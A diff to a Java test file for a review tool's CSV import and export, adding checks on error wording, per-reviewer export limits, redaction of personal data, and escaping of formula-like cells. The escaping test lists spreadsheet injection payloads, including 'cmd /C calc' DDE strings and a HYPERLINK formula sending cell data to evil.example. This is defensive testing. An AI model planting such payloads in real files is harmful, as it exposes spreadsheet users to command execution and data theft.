@@ -1,5 +1,6 @@
 package dev.concord.service;
 
+import dev.concord.review.Viewer;
 import dev.concord.review.Review;
 import dev.concord.review.ReviewDraft;
 import dev.concord.review.Reviewer;
@@ -20,6 +21,7 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 /** Reviews CSV import (good rows land, bad rows are named) and export (same layout, atomic). */
 class ReviewCsvServiceTest {
+    private static final Viewer LEAD = new Viewer("lead", true);
     @TempDir
     Path dir;
     private ReviewFixture f;
@@ -53,7 +55,7 @@ class ReviewCsvServiceTest {
         assertThat(r.reviewersCreated()).containsExactly("Ann", "Bob");
         Reviewer ann = named("Ann");
         Reviewer bob = named("Bob");
-        assertThat(f.reviews.reveal(bob.id(), single(1))).extracting(Review::label).containsExactly("wrong", "good");
+        assertThat(f.reviews.reveal(Viewer.of(bob), single(1))).extracting(Review::label).containsExactly("wrong", "good");
         assertThat(f.reviews.myReview(bob.id(), single(1)).orElseThrow().correction()).isEqualTo("The answer is 42, not 41.");
         Review chain = f.reviews.myReview(ann.id(), CHAIN).orElseThrow();
         assertThat(chain.best()).isEqualTo(1);
@@ -82,14 +84,14 @@ class ReviewCsvServiceTest {
         ReviewImportReport r = csv.importFile(in);
         String f0 = in.toString();
         assertThat(r.badRows()).containsExactly(
-                f0 + ":3: item: unknown item 'fi-nope'",
-                f0 + ":4: label: unknown label 'meh' (known: good, wrong, unsafe, off-task, style, needs-expert)",
-                f0 + ":5: duplicate: item 'fi-g1' by reviewer 'Ann' is already on line 2",
-                f0 + ":6: best: 'two' is not an attempt number (1-4 or none)",
-                f0 + ":7: best: attempt 7 does not exist (the item has 4)",
-                f0 + ":8: reviewer: missing",
+                f0 + ":3: field 'item': no flagged item has this id",
+                f0 + ":4: field 'label': not one of the labels (good, wrong, unsafe, off-task, style, needs-expert)",
+                f0 + ":5: field 'reviewer': this reviewer already has a row for this item on line 2",
+                f0 + ":6: field 'best': not an attempt number (1-4 or none)",
+                f0 + ":7: field 'best': no such attempt (the item has 4)",
+                f0 + ":8: field 'reviewer': missing",
                 f0 + ":9: expected 6 fields, found 5",
-                f0 + ":10: worst: the best and the worst attempt must differ");
+                f0 + ":10: field 'worst': the best and the worst attempt must differ");
         assertThat(r.hasBadRows()).isTrue();
         assertThat(r.added()).isEqualTo(3);
         assertThat(f.reviews.myReview(named("Ann").id(), CHAIN).orElseThrow().best()).isEqualTo(0);
@@ -129,8 +131,49 @@ class ReviewCsvServiceTest {
     @Test
     void anUnclosedQuoteIsReportedAndEarlierRowsLand() throws Exception {
         ReviewImportReport r = csv.importFile(file("item,reviewer,label,correction", "fi-g1,Ann,good,", "fi-g2,Ann,wrong,\"oops"));
-        assertThat(r.badRows()).singleElement().asString().contains(":3: a quoted field opened on line 3 is never closed");
+        assertThat(r.badRows()).singleElement().asString().endsWith(
+                ":3: field 'correction': a quoted field opened on line 3 is never closed; the rest of the file was not read");
         assertThat(r.added()).isEqualTo(1);
+    }
+
+    @Test
+    void messagesAboutBadRowsNeverEchoTheCells() throws Exception {
+        Path in = file("item,reviewer,label,correction,best,worst",
+                "fi-jane.doe@example.com,Ann,good,,,",
+                "fi-g1,Ann,call 415-555-0100,,,",
+                "fi-c1,Ann,good,,+1 415 555 0100,",
+                "fi-c1,Ann,good,,,4111111111111111",
+                "fi-g2,jane.doe@example.com,good,,,",
+                "fi-g2,jane.doe@example.com,wrong,,,",
+                "fi-g3,Ann,good,\"oops 415-555-0100");
+        ReviewImportReport r = csv.importFile(in);
+        assertThat(r.badRows()).hasSize(6);
+        assertThat(String.join("\n", r.badRows())).doesNotContain("jane", "example.com", "555", "4111");
+        assertThatThrownBy(() -> csv.importFile(file("item,reviewer,label,jane.doe@example.com")))
+                .hasMessageContaining(":1: unknown column '[EMAIL]'").hasMessageNotContaining("jane");
+    }
+
+    @Test
+    void formulaLikeCellsAreExportedAsTextAndImportedBackUnchanged() throws Exception {
+        String[] payloads = {"=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+                "@SUM(1+9)*cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!E2", "\t=1+1", "'=already quoted"};
+        Reviewer ann = f.reviewer("=Ann");
+        f.reviews.submit(ann.id(), single(1), new ReviewDraft("wrong", String.join("\n", payloads), null, null, false, null));
+        f.reviews.submit(ann.id(), single(2), new ReviewDraft("wrong", payloads[1], null, null, false, null));
+        f.reviews.submit(ann.id(), single(3), new ReviewDraft("wrong", payloads[2], null, null, false, null));
+        StringWriter out = new StringWriter();
+        csv.export(LEAD, out);
+        assertThat(out.toString()).contains("\"'=Ann\"", "\"'@SUM(1+9)*cmd|' /C calc'!A0\"",
+                "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"").doesNotContain(",=", ",@", ",+", ",-");
+
+        ReviewFixture other = new ReviewFixture(Files.createDirectories(dir.resolve("other")), 3);
+        Path file = Files.writeString(dir.resolve("formulas.csv"), out.toString(), StandardCharsets.UTF_8);
+        ReviewImportReport r = new ReviewCsvService(other.db).importFile(file);
+        assertThat(r.badRows()).isEmpty();
+        assertThat(r.reviewersCreated()).containsExactly("=Ann");
+        StringWriter back = new StringWriter();
+        new ReviewCsvService(other.db).export(LEAD, back);
+        assertThat(back.toString()).isEqualTo(out.toString());
     }
 
     @Test
@@ -142,7 +185,7 @@ class ReviewCsvServiceTest {
         f.reviews.submit(ann.id(), CHAIN, new ReviewDraft("wrong", null, null, 0, true, null));
         f.reviews.revise(ann.id(), CHAIN, ann.id(), new ReviewDraft("unsafe", null, null, 0, true, null));
         StringWriter out = new StringWriter();
-        assertThat(csv.export(out)).isEqualTo(3);
+        assertThat(csv.export(LEAD, out)).isEqualTo(3);
         assertThat(out.toString()).isEqualTo("item,reviewer,label,correction,best,worst\n"
                 + "fi-g1,Ann,wrong,\"Line one\nsaid \"\"two\"\"\",,\n"
                 + "fi-c1,Ann,unsafe,,none,1\n"
@@ -150,13 +193,32 @@ class ReviewCsvServiceTest {
 
         ReviewFixture other = new ReviewFixture(Files.createDirectories(dir.resolve("other")), 3);
         Path file = dir.resolve("out/reviews.csv");
-        csv.export(file);
+        csv.export(LEAD, file);
         ReviewImportReport r = new ReviewCsvService(other.db).importFile(file);
         assertThat(r.badRows()).isEmpty();
         assertThat(r.added()).isEqualTo(3);
         StringWriter back = new StringWriter();
-        new ReviewCsvService(other.db).export(back);
+        new ReviewCsvService(other.db).export(LEAD, back);
         assertThat(back.toString()).isEqualTo(out.toString());
+    }
+
+    @Test
+    void aReviewersExportHoldsOnlyTheReviewsOfItemsTheyReviewedThemselves() throws Exception {
+        Reviewer ann = f.reviewer("Ann");
+        Reviewer bob = f.reviewer("Bob");
+        Reviewer cid = f.reviewer("Cid");
+        f.reviews.submit(ann.id(), single(1), new ReviewDraft("wrong", "Ann's secret fix", null, null, false, null));
+        f.reviews.submit(ann.id(), single(2), ReviewDraft.labelOnly("unsafe"));
+        f.reviews.submit(bob.id(), single(2), ReviewDraft.labelOnly("good"));
+        StringWriter asBob = new StringWriter();
+        assertThat(csv.export(Viewer.of(bob), asBob)).isEqualTo(2);
+        assertThat(asBob.toString()).isEqualTo("item,reviewer,label,correction,best,worst\n"
+                + "fi-g2,Ann,unsafe,,,\n"
+                + "fi-g2,Bob,good,,,\n");
+        StringWriter asCid = new StringWriter();
+        assertThat(csv.export(Viewer.of(cid), asCid)).isZero();
+        assertThat(asCid.toString()).isEqualTo("item,reviewer,label,correction,best,worst\n");
+        assertThat(csv.export(Viewer.of(f.lead("Lea")), new StringWriter())).isEqualTo(3);
     }
 
     @Test
@@ -165,7 +227,7 @@ class ReviewCsvServiceTest {
         Files.createDirectories(target.getParent());
         Files.writeString(target, "old content");
         f.reviews.submit(f.reviewer("Ann").id(), single(1), ReviewDraft.labelOnly("good"));
-        csv.export(target);
+        csv.export(LEAD, target);
         assertThat(Files.readString(target)).startsWith("item,reviewer,label").contains("fi-g1,Ann,good");
         try (var files = Files.list(target.getParent())) {
             assertThat(files).containsExactly(target);
